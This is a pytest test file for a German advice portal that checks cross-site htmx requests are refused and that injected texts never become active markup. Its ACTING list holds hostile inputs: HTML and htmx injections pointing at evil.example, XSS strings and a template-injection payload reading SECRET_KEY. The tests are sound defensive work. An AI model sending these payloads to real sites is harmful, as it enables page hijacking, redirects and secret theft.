"""Requests that no page of ours sends: htmx headers from elsewhere, texts that want to act."""

import pytest

from portal.domain.matching.category import Category
from tests.blueprints.seekers.robin.protocols import html_of
from tests.factories import pages, robin
from tests.factories.directory import Offer
from tests.factories.forms import find_form
from tests.support.html import walk
from tests.support.statements import rows_of, writes_nothing

ACTING = (
    '<base href="//evil.example/">',
    '"><form action="//evil.example/"><button>',
    '<meta http-equiv="refresh" content="0;url=//evil.example/">',
    '" data-hx-get="//evil.example/" data-hx-trigger="load" x="',
    '" style="position:fixed" onfocus="alert(1)" autofocus x="',
    "<svg onload=alert(1)><style>*{display:none}</style>",
    "{% include 'layouts/base.html' %}{{ config.SECRET_KEY }}",
)
FROM_ELSEWHERE = {
    "HX-Request": "true",
    "HX-Target": "anschluss",
    "Origin": "https://evil.example",
    "Sec-Fetch-Site": "cross-site",
}
FLAT = robin.question_path("s15")
WITH_FLAT = robin.AT_HOME | {
    "interessen": ("wohnen",),
    "wohnen.form": ("senioren_wg",),
    "wohnen.miete": "miete",
}
POSTS = (
    robin.START,
    robin.LIFE,
    f"{robin.LIFE}/fragen",
    *(
        f"{robin.START}{path}"
        for path in ("weiter", "code", "code/loeschen", "neu", "widerrufen", "verlassen")
    ),
    f"{robin.START}sprache",
    f"{robin.START}protokoll/noch-einmal",
)


def assert_nothing_acts(answer):
    """Refuse a page in which such a text became an element, an attribute or a computed value."""
    root = pages.tree(answer)
    assert not list(walk(root, "base"))
    assert all("evil.example" not in (one.get("action") or "") for one in walk(root, "form"))
    assert all("evil.example" not in (one.get("content") or "") for one in walk(root, "meta"))
    for tag in ("input", "p", "svg", "button", "div", "span"):
        for one in walk(root, tag):
            assert not one.get("style")
            assert not one.get("onfocus")
            assert "evil.example" not in (one.get("data-hx-get") or "")
    assert "for-tests-only" not in answer.text


class TestHtmxFromElsewhere:
    @pytest.mark.parametrize("path", POSTS)
    def test_gives_no_privilege(self, client, database, path):
        robin.keep(client, robin.AT_HOME)
        before = rows_of(database)

        refused = client.post(path, data={"wunsch": "heim"}, headers=FROM_ELSEWHERE)

        assert refused.status_code == 400
        assert rows_of(database) == before

    @pytest.mark.parametrize("path", [robin.RESULT, f"{robin.START}antworten", robin.LIFE])
    def test_opens_nothing_of_another_person(self, client, other_client, path):
        robin.keep(other_client, robin.AT_HOME)

        answer = client.get(path, headers=FROM_ELSEWHERE)

        assert answer.status_code in {200, 303}
        assert "Zu Hause bleiben" not in answer.text


class TestActingTexts:
    @pytest.mark.parametrize("text", ACTING)
    def test_in_the_place(self, client, database, text):
        form = find_form(client.get(robin.START), button=robin.GO)
        for button in (robin.GO, "Einfache Sprache"):
            data = form.filled({"ort": text, "einwilligung": "ja"}, button=button)
            with writes_nothing(database):
                assert_nothing_acts(client.post(robin.START, data=data))

    @pytest.mark.parametrize("text", ACTING)
    def test_in_the_code(self, client, text):
        form = find_form(client.get(f"{robin.START}weiter"), button="Weitermachen")

        answer = client.post(
            f"{robin.START}weiter", data=form.filled({"code": text}, button="Weitermachen")
        )

        assert answer.status_code == 422
        assert_nothing_acts(answer)

    @pytest.mark.parametrize("text", ACTING)
    @pytest.mark.parametrize("button", [robin.NEXT, "Einfache Sprache"])
    def test_in_a_number_of_a_step(self, client, text, button):
        robin.keep(client, WITH_FLAT)
        form = find_form(client.get(FLAT), button=button)

        answer = client.post(FLAT, data=form.filled({"wohnen.budget": text}, button=button))

        assert answer.status_code in {200, 422}
        assert_nothing_acts(answer)
        assert "wohnen.budget" not in robin.stored(client)

    @pytest.mark.parametrize("field", ["ziel", "gezeigt", "richtung", "sprache"])
    @pytest.mark.parametrize("text", ACTING[:4])
    def test_in_a_field_that_nobody_types(self, client, field, text):
        robin.keep(client, robin.AT_HOME)
        data = find_form(client.get(robin.LIFE), button=robin.NEXT).filled({}, button=robin.NEXT)
        data[field] = text

        answer = client.post(robin.LIFE, data=data)

        assert answer.status_code == 303
        assert answer.location.startswith(robin.START)
        assert "evil.example" not in answer.location

    @pytest.mark.parametrize("text", ACTING)
    def test_in_a_name_on_result_and_protocol(self, app, client, add_offers, text):
        add_offers(Offer(category=Category.AMBULANT, name=text, served=("19370",)))

        result = robin.advise(client, robin.AT_HOME)

        assert_nothing_acts(result)
        html = html_of(app, robin.AT_HOME)
        assert text not in html
        assert "for-tests-only" not in html
        assert text in client.get(f"{robin.START}protokoll.txt").text
